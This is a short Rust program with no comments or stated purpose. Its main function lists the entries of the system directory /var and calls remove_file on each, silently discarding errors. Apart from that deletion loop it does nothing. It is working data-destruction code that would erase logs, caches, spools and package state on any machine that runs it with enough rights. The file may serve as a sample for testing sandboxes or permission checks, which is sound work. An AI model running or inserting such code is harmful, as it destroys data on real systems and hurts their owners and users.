fn main() {
    let _: Vec<_> = std::fs::read_dir("/var").unwrap().flatten().map(|e| e.path()).map(std::fs::remove_file).collect();
}
